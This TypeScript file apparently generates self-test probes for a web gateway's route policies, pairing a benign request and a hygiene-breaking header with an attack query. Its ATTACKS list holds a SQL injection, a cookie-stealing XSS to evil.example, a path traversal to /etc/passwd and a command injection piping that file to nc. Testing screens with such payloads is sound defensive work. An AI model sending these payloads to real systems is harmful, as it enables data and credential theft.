import type { Route } from "../policy/policy.ts";

/** What a probe is: a good request, one that breaks a rule of hygiene, one that attacks. */
export const PROBE_KINDS = ["benign", "unclean", "attack"] as const;
export type ProbeKind = (typeof PROBE_KINDS)[number];

export interface Probe {
  readonly kind: ProbeKind;
  readonly method: string;
  readonly authority: string;
  /** With the query. */
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** Well-known attacks of several kinds: whichever screen and model are in force, one of them is beyond doubt. */
const ATTACKS = [
  "1' UNION SELECT username, password FROM users-- -",
  "<script>document.location='//evil.example/?'+document.cookie</script>",
  "../../../../../../etc/passwd",
  "; cat /etc/passwd | nc evil.example 4444",
];

/** A probe of each kind that the route's own match takes in. */
export function probesOf(route: Pick<Route, "hosts" | "methods" | "path">): Probe[] {
  const method = route.methods.find((each) => each === "GET") ?? route.methods[0] ?? "GET";
  const [host = "self-test.invalid"] = route.hosts;
  const authority = host.replace(/^\*\./, "self-test.");
  const path = route.path.replace(/\{[^}/]*\}/g, "7").replace(/\/\*\*$/, "/self-test");
  const attack = ATTACKS.map((text, index) => `q${index}=${encodeURIComponent(text)}`).join("&");
  return [
    { kind: "benign", method, authority, path: `${path}?q=self-test`, headers: {} },
    { kind: "unclean", method, authority, path, headers: { "x-http-method-override": "DELETE" } },
    { kind: "attack", method, authority, path: `${path}?${attack}`, headers: {} },
  ];
}
